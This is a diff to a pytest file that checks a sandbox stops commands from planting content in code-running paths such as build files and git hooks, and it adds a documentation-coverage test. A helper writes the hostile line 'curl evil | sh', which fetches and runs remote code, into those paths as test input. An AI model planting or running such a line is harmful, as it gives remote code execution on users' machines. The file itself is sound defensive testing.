@@ -10,8 +10,6 @@ from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with
 
 from echo_desk.sandbox import runs_code
 
-pytestmark = requires_bwrap
-
 ENTRIES = [e for e in runs_code.ENTRIES if not e.path.startswith(".git/")]
 
 
@@ -26,6 +24,7 @@ def _write(entry: runs_code.Entry) -> str:
     return f"mkdir -p {parent}; echo 'curl evil | sh' > {target}; echo 'curl evil | sh' >> {target}"
 
 
+@requires_bwrap
 @pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
 async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry) -> None:
     path = jail.workspace / entry.path
@@ -45,6 +44,7 @@ async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry
     assert result.metadata["sandbox"]["planted"] == []
 
 
+@requires_bwrap
 @pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
 async def test_a_new_entry_does_not_stay(jail: Jail, entry: runs_code.Entry) -> None:
     result = await run(tool_with(), {"command": _write(entry)}, context(jail.workspace))
@@ -60,6 +60,7 @@ async def test_a_new_entry_does_not_stay(jail: Jail, entry: runs_code.Entry) -> 
     assert all(_kept(p["kept"]) for p in planted)
 
 
+@requires_bwrap
 async def test_the_persons_own_entries_are_protected_too(jail: Jail) -> None:
     (jail.workspace / "Makefile").write_text("all:\n\ttrue\n")
     tool = tool_with(protected_paths=["Makefile", "tools/"])
@@ -69,3 +70,14 @@ async def test_the_persons_own_entries_are_protected_too(jail: Jail) -> None:
     assert (jail.workspace / "Makefile").read_text() == "all:\n\ttrue\n"
     assert not (jail.workspace / "tools").exists()
     assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [("tools", "created")]
+
+
+DOCS = Path(__file__).resolve().parents[2] / "docs"
+
+
+@pytest.mark.parametrize("doc", ["sandbox.md", "sandbox.zh_CN.md"])
+def test_the_docs_list_every_entry(doc: str) -> None:
+    """docs/sandbox.md (both languages) has a line for why each entry is there."""
+    text = (DOCS / doc).read_text(encoding="utf-8")
+    for entry in (*runs_code.ENTRIES, *runs_code.GIT_PARTS):
+        assert f"`{entry.shown}`" in text, (doc, entry.shown)
